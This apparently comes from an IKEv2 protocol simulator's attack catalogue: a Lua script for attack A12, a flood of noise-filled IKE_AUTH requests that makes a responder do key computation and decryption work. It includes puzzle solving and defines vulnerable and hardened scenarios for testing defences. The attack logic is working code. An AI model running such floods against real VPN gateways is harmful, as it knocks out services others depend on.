-- IKE_SA_INIT under one's own address, as anybody may (a cookie is answered, too), and then IKE_AUTH requests full of noise. The responder has
-- to compute a shared secret and keys for the first, and to check an ICV for each of them; the sender computes nothing.
attack = {
  id = "A12", name = "junk-auth-flood",
  about = "Begins IKE SAs under its own address, then sends IKE_AUTH requests that are nothing but noise",
  position = "off-path",
  needs = "an address of its own",
  source = "RFC 8019, 3 (the second kind of attack); catalogue A12",
  shows = {
    vulnerable = "each noise costs the responder a decryption attempt, as many as the sender likes",
    hardened = "somebody on the way counts different requests under one Message ID, and lets no more through; or IKE_AUTH costs a puzzle, too, "
      .. "and noise without its solution is dropped before anything is computed",
  },
  scenarios = { vulnerable = "junk-auth-flood", hardened = { "junk-auth-flood-filtered", "junk-auth-flood-puzzles" } },
}

-- Parameters: target, own = "203.0.113.66", count = 100 (noise a second), for 3 s
local target, own, count, pair, spi_i, spi_r, sent = nil, nil, nil, nil, nil, nil, 0
local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
local nonce

function on_start(params)
  target, own, count = assert(params.target, "parameter target: the responder's address"), params.own or "203.0.113.66", tonumber(params.count or "300")
  pair, nonce, spi_i = crypto.key_pair("x25519"), crypto.random(32), bytes.hex(crypto.random(8))
  timer.after("1s", "begin")
end

local function send(note, payload)
  inject{ src = own, src_port = 500, dst = target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end
-- Four keys with which the PRF of the cookie ends in as many zero bits as asked for (RFC 8019, 7.1.3): whoever wants a half-open IKE SA
-- works for that once.
local function solve(puzzle, cookie)
  local keys, zero_bits = {}, (1 << puzzle:byte(3)) - 1
  for i = 0, 65535 do
    local key = string.pack(">I4", i)
    if string.unpack(">I4", crypto.prf("prfsha256", key, cookie), -4) & zero_bits == 0 then keys[#keys + 1] = key end
    if #keys == 4 then return { number = 54, body = table.concat(keys) } end
  end
end
local function begin(cookie, puzzle)
  local payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(nonce) }
  if puzzle then table.insert(payloads, 1, solve(puzzle, cookie)) end
  if cookie then table.insert(payloads, 1, ike.notify(16390, cookie)) end
  send(cookie and "IKE_SA_INIT again, with the cookie" .. (puzzle and " and the puzzle's solution" or "") or "IKE_SA_INIT, under its own address",
    ike.encode{ spi_i = spi_i, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0, payloads = payloads })
end

local function noise()
  sent = sent + 1
  send("IKE_AUTH with 200 octets of noise", ike.encode{ spi_i = spi_i, spi_r = spi_r, exchange = 35, initiator = true, message_id = 1,
    payloads = { { number = 46, body = crypto.random(200) } } })
  if sent < count then timer.after("10ms", "noise") end
end

function on_timer(label)
  if label == "begin" then begin() else noise() end
end

on({ exchange = "IKE_SA_INIT", response = true, repeated = false }, function(_, message)
  local cookie, puzzle = notify_of(message, "COOKIE"), notify_of(message, "PUZZLE")
  if cookie then return begin(cookie.data, puzzle and puzzle.data) end
  if spi_r or not find(message, "KE") then return end
  spi_r = message.spi_r
  learn("IKE SA " .. spi_r, "a half-open IKE SA at " .. target, "the responder answered in full")
  mark("mallory has a half-open IKE SA, and fills it with noise.")
  timer.after("10ms", "noise")
end)

function on_finish()
  learn("the flood", sent .. " IKE_AUTH requests of noise sent; what each cost, only the responder knows", "counted")
end
